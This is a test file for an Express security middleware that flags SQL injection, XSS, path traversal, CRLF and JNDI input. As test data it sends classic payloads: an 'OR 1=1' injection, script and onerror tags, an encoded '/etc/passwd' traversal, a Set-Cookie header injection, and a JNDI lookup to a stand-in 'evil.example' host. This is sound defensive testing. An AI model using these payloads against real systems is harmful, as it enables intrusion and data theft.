import type { Express, Request, Response } from 'express';
import { Registry } from 'prom-client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { describeEachExpress, type Listening, listen } from '../../../test/helpers/index.js';
import {
  errorHandler,
  ipFilter,
  jsonBody,
  matchThreats,
  type ThreatRule,
  threatMonitor,
} from '../src/index.js';
import { threatPatterns } from '../src/threat-monitor.js';
import { attacks, benign } from './fixtures/bad-input/threats.js';
import { recordingLogger } from './helpers/raw.js';

const ALL: ThreatRule[] = ['sql', 'xss', 'traversal', 'crlf', 'jndi'];

/**
 * The measured false positives over the benign corpus, per rule. README's "Known false positives"
 * lists exactly these; if a pattern changes, this test fails until both are updated.
 */
const MEASURED_FALSE_POSITIVES: Record<string, ThreatRule[]> = {
  'He said "yes" or "no" -- not sure which.': ['sql'],
  '"quoted" -- with dashes': ['sql'],
  '../README.md': ['traversal'],
  'Multi-line text\nwith a second line': ['crlf'],
};

describe('threat patterns', () => {
  it('the shortcut for plain values (letters, digits, _ / . , -) finds exactly what all patterns find', () => {
    const inputs = [
      ...attacks.map((a) => a.input),
      ...benign,
      '/api/items/42',
      '/x/information_schema',
      '/SysObjects',
      'pg_catalog.tables',
      '/a/../b',
      '..',
      'a..b',
      'union-select',
      'or-1-1',
      'javascript',
      'script',
    ];
    // Random plain strings built from fragments that the patterns look for.
    const parts = [
      'union',
      'select',
      'or',
      '1',
      '=',
      'sleep',
      'sqlite_master',
      '..',
      '/',
      '.',
      ',',
      '-',
      '_',
      'script',
      'on',
      'jndi',
      'x',
      'A9',
    ];
    let seed = 7;
    const next = () => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return seed;
    };
    for (let i = 0; i < 5000; i++) {
      let value = '';
      const n = 1 + (next() % 8);
      for (let j = 0; j < n; j++) value += parts[next() % parts.length];
      inputs.push(value.replaceAll('=', '-'));
    }
    // Every pattern of every rule, no shortcut.
    const allPatterns = (input: string) =>
      ALL.filter((rule) => threatPatterns[rule].some((re) => re.test(input)));
    for (const input of inputs)
      expect([input, matchThreats(input, ALL)]).toEqual([input, allPatterns(input)]);
    expect(matchThreats('/x/information_schema', ALL)).toEqual(['sql']);
    expect(matchThreats('/a/../b', ALL)).toEqual(['traversal']);
  });

  it.each(attacks)('flags $input as $rule', ({ input, rule }) => {
    expect(matchThreats(input, ALL)).toContain(rule);
  });

  it('false positives over the benign corpus are exactly the documented list', () => {
    const found: Record<string, ThreatRule[]> = {};
    for (const input of benign) {
      const rules = matchThreats(input, ALL);
      if (rules.length > 0) found[input] = rules;
    }
    expect(found).toEqual(MEASURED_FALSE_POSITIVES);
    // Rate reported in the README.
    expect(`${Object.keys(found).length}/${benign.length}`).toBe(`4/${benign.length}`);
  });
});

describeEachExpress('threatMonitor', (express) => {
  let monitor: Listening;
  let block: Listening;
  const logger = recordingLogger();
  const registry = new Registry();

  const build = (mode: 'monitor' | 'block') => {
    const app: Express = express();
    app.use(jsonBody());
    app.use(threatMonitor({ mode, logger, registry }));
    app.use((req: Request, res: Response) => {
      res.json({ ok: true, body: req.body ?? null });
    });
    app.use(errorHandler({ production: true }));
    return app;
  };

  beforeAll(async () => {
    monitor = await listen(build('monitor'));
    block = await listen(build('block'));
  });
  afterAll(async () => {
    await monitor.close();
    await block.close();
  });

  const counterValue = async (rule: string, location: string, mode: string) => {
    const metric = await registry
      .getSingleMetric('shipshape_security_suspicious_input_total')
      ?.get();
    return (
      metric?.values.find(
        (v) => v.labels.rule === rule && v.labels.location === location && v.labels.mode === mode,
      )?.value ?? 0
    );
  };

  it('monitor: lets the request through, logs suspicious_input and counts', async () => {
    const before = await counterValue('sql', 'query', 'monitor');
    const res = await fetch(`${monitor.url}/search?q=${encodeURIComponent("' OR 1=1 --")}`);
    expect(res.status).toBe(200);
    expect(await counterValue('sql', 'query', 'monitor')).toBe(before + 1);
    const event = logger.events('suspicious_input').at(-1);
    expect(event?.meta).toMatchObject({
      mode: 'monitor',
      rules: ['sql'],
      locations: ['query'],
      fields: ['q'],
    });
    expect(JSON.stringify(event?.meta)).not.toContain('1=1');
  });

  it('block: 400 problem+json for path, query and body attacks', async () => {
    const cases: [string, RequestInit | undefined, ThreatRule, string][] = [
      ['/files/..%2F..%2Fetc%2Fpasswd', undefined, 'traversal', 'path'],
      ['/files/%252e%252e%252fsecret', undefined, 'traversal', 'path'],
      [`/x?name=${encodeURIComponent('<script>alert(1)</script>')}`, undefined, 'xss', 'query'],
      ['/x?lang=en%0d%0aSet-Cookie:%20a=b', undefined, 'crlf', 'query'],
      [
        '/x',
        {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal ${...} payload, not a template
          body: JSON.stringify({ user: { agent: '${jndi:ldap://evil.example/a}' } }),
        },
        'jndi',
        'body',
      ],
      [
        '/x',
        {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ comment: '<img src=x onerror=alert(1)>' }),
        },
        'xss',
        'body',
      ],
    ];
    for (const [path, init, rule, location] of cases) {
      const before = await counterValue(rule, location, 'block');
      const res = await fetch(`${block.url}${path}`, init);
      expect(res.status, path).toBe(400);
      expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
      const body = (await res.json()) as { code: string; detail: string };
      expect(body.code).toBe('SUSPICIOUS_INPUT');
      expect(body.detail).toContain(rule);
      expect(await counterValue(rule, location, 'block')).toBe(before + 1);
    }
  });

  it('block: benign input passes, including multi-line body text', async () => {
    const res = await fetch(`${block.url}/notes?author=${encodeURIComponent("O'Brien")}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ text: 'Line one\nLine two', tags: ['Q&A', 'Tom & Jerry'] }),
    });
    expect(res.status).toBe(200);
  });
});

describeEachExpress('threatMonitor feeding ipFilter auto-block', (express) => {
  it('blocks a client after repeated flagged requests; clean requests do not count', async () => {
    const filter = ipFilter({ autoBlock: { hits: 3, windowMs: 60_000, blockMs: 60_000 } });
    const app: Express = express();
    app.use(filter);
    app.use(threatMonitor({ ipFilter: filter }));
    app.use((_req: Request, res: Response) => {
      res.json({ ok: true });
    });
    app.use(errorHandler({ production: true }));
    const server = await listen(app);
    try {
      for (let i = 0; i < 5; i++)
        expect((await fetch(`${server.url}/items?q=plain`)).status).toBe(200);
      const attack = `${server.url}/items?q=${encodeURIComponent("' or 1=1 --")}`;
      for (let i = 0; i < 3; i++) expect((await fetch(attack)).status).toBe(200);
      // The third hit lands the block (recorded after the answer): the next request is refused.
      await expect
        .poll(async () => (await fetch(`${server.url}/items?q=plain`)).status, { timeout: 2000 })
        .toBe(403);
    } finally {
      await server.close();
      await filter.close();
    }
  });
});

describe('threatMonitor options', () => {
  it('refuses an ipFilter without recordLimitHit', () => {
    expect(() => threatMonitor({ ipFilter: {} as never })).toThrow(
      /threatMonitor "ipFilter" must be an ipFilter\(\) middleware/,
    );
  });

  it('throws for an unknown mode or rule', () => {
    expect(() => threatMonitor({ mode: 'deny' as 'block' })).toThrow(
      /threatMonitor "mode" must be 'monitor' or 'block', got "deny"/,
    );
    expect(() => threatMonitor({ rules: ['xxe' as ThreatRule] })).toThrow(
      /"rules" must be an array of/,
    );
  });
});
